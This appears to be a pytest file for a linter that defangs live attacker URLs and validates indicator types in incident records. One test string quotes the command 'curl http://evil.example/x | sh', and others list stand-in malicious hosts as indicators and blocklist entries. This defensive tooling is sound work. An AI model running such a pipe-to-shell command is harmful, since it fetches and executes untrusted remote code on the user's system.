"""Addresses in prose and typed indicators, beyond what the rules' own examples show."""

from __future__ import annotations

import pytest

from aishare_lint.document.places import Span
from aishare_lint.document.prose import is_quoted, prose
from aishare_lint.document.reader import read
from tests.lint.checks.judging import first, fixed, found

LIVE = "indicators/live-in-prose"
NEVER = "indicators/never-malicious"


@pytest.mark.parametrize(
    "summary",
    [
        "'see https://evil.example/a.b'",
        '"tabs\\tand https://evil.example/a.b"',
        ">-\n    a folded text\n    with https://evil.example/a.b in it",
        "|\n    lines\n    https://evil.example/a.b",
        "plain text over\n    two lines https://evil.example/a.b here",
    ],
)
def test_live_addresses_are_defanged_in_every_style(summary: str) -> None:
    before = f"description:\n  summary: {summary}\n"
    after = fixed(before, LIVE)
    assert after == before.replace("https://evil.example/a.b", "hxxps://evil[.]example/a.b")
    assert found(after, LIVE, "indicators/mixed-defang", "indicators/broken-defang") == []


@pytest.mark.parametrize(
    "summary",
    [
        "the page said `curl http://evil.example/x | sh`",
        "the page said 'go to http://evil.example/x' to the agent",
        "the page said “go to http://evil.example/x” to the agent",
        "the page said «http://evil.example/x»",
    ],
)
def test_quoted_words_are_flagged_and_never_fixed(summary: str) -> None:
    text = f"description:\n  summary: |\n    {summary}\n"
    assert found(text, LIVE) == [(LIVE, "$.description.summary")]
    assert fixed(text, LIVE, unsafe=True) == text


@pytest.mark.parametrize(
    "text",
    [
        "detection: {indicators: [{type: url, value: 'https://evil.example/x'}]}",
        "technical: {prompts: [{prompt: open https://evil.example/x, response: https://evil.example/x, turns: [{text: http://evil.example}]}]}",
        "mitigations: {defensive_measures: [{type: blocklist, text: evil.example}]}",
        "sources: {s1: {title: T, url: 'https://evil.example/x'}}",
        "ai_systems: {models: [{location: 'https://evil.example/x'}]}",
        "internal: {notes: https://evil.example/x}",
    ],
)
def test_addresses_stay_live_where_they_belong(text: str) -> None:
    assert found(text, LIVE) == []


@pytest.mark.parametrize(
    ("address", "flagged"),
    [
        ("https://nvd.nist.gov/vuln/detail/CVE-2025-8217", False),
        ("https://github.com/actor/tool", False),
        ("https://raw.githubusercontent.com/actor/tool/x.sh", True),
        ("https://research.example/post/2", False),
        ("http://192.168.1.5:8265/", False),
        ("http://203.0.113.9/x", True),
        ("45.77.12.3", True),
        ("api.example.com", False),
        ("person@evil.example", False),
    ],
)
def test_whose_address_may_stand_live(address: str, flagged: bool) -> None:
    text = f"sources: {{s1: {{url: 'https://www.research.example/post'}}}}\ndescription: {{summary: \"see {address} there\"}}\n"
    assert bool(found(text, LIVE)) == flagged


def test_an_indicator_outweighs_a_reference() -> None:
    text = """
sources: {s1: {url: "https://github.com/org/advisory"}}
detection:
  indicators: [{id: i1, type: url, value: "hxxps://github[.]com/actor/tool"}, {type: domain, value: "api.example.com"}]
description: {summary: "it cloned https://github.com/actor/tool, not https://github.com/org/other, and called x.api.example.com"}
"""
    assert [at for _, at in found(text, LIVE)] == ["$.description.summary"] * 2
    assert "of indicator `i1`" in first(text, LIVE).message


def test_prose_is_what_people_read() -> None:
    data = read("title: T\nid: X\nx_ours: {more: [U, {note: N}]}\nreferences: [R]\ntlp: TLP:CLEAR\n").data
    assert data is not None
    assert {one.text for one in prose(data)} == {"T", "U", "N", "TLP:CLEAR"}


@pytest.mark.parametrize(
    ("text", "quoted"), [('a "b c" d', True), ("a `b c` d", True), ("a “b c” d", True), ("it's b c, isn't it", False), ('5" b c', False)]
)
def test_is_quoted(text: str, quoted: bool) -> None:
    at = text.index("b c")
    assert is_quoted(text, Span(at, at + 3)) == quoted


@pytest.mark.parametrize(
    ("kind", "value", "meant"),
    [
        ("sha256", "d" * 40, "sha1"),
        ("sha256", "sha256:" + "d" * 64, None),
        ("md5", "evil.example", "domain"),
        ("ipv4", "2001:db8::1", "ipv6"),
        ("ipv4", "198.51.100.300", None),
        ("domain", "hxxps://evil[.]example/a", "url"),
        ("url", "evil[.]example", "domain"),
        ("email", "evil.example", "domain"),
        ("domain", "a@evil.example", "email"),
        ("asn", "64496x", None),
        ("domain", "xn--\N{BULLET}.example", None),
    ],
)
def test_wrong_types(kind: str, value: str, meant: str | None) -> None:
    finding = first(f"detection: {{indicators: [{{type: {kind}, value: '{value}'}}]}}", "indicators/wrong-type")
    assert (finding.fix.title if finding.fix else None) == (f"type it `{meant}`" if meant else None)
    assert finding.fix is None or finding.fix.safety == "suggest"


@pytest.mark.parametrize(
    ("kind", "value"),
    [
        ("sha256", "E" * 64),
        ("sha1", "d" * 40),
        ("git-commit", "abcdef1"),
        ("ipv4", "198[.]51[.]100[.]0/24"),
        ("ipv6", "2001[:]db8[:][:]1"),
        ("domain", "*.evil[.]example"),
        ("domain", "xn--bcher-kva.example"),
        ("url", "ftp://198.51.100.7/x"),
        ("email", "a[at]evil[.]example"),
        ("asn", "AS64496"),
        ("vscode-extension", "a.b@1.0"),
        ("nonsense", "anything"),
        ("sha256", "unknown"),
    ],
)
def test_right_types(kind: str, value: str) -> None:
    assert found(f"detection: {{indicators: [{{type: {kind}, value: '{value}'}}]}}", "indicators/wrong-type") == []


@pytest.mark.parametrize("value", ["192.168.0.1", "169.254.1.1", "224.0.0.1", "100.64.0.1", "0.0.0.0", "10.0.0.0/8", "127.0.0[.]1"])
def test_addresses_nobody_should_block(value: str) -> None:
    assert found(f"detection: {{indicators: [{{type: ipv4, value: '{value}'}}]}}", NEVER)


@pytest.mark.parametrize("value", ["45.77.12.3", "8.8.8.9", "104.16.0.0/24"])
def test_addresses_that_may_be_blocked(value: str) -> None:
    assert not found(f"detection: {{indicators: [{{type: ipv4, value: '{value}'}}]}}", NEVER)


def test_only_a_complete_copy_is_removed() -> None:
    text = """detection:
  indicators:
    - {type: domain, value: a.example, note: one}
    - {type: domain, value: "a[.]example", note: two}
    - {type: ipv6, value: "2001:db8::1"}
    - {type: ipv6, value: "2001:0db8:0::1"}
    - {type: url, value: "http://A.example/X"}
    - {type: url, value: "http://a.example/x"}
"""
    at = [place for _, place in found(text, "indicators/duplicate")]
    assert at == ["$.detection.indicators[1]", "$.detection.indicators[3]"]
    assert fixed(text, "indicators/duplicate", unsafe=True) == text
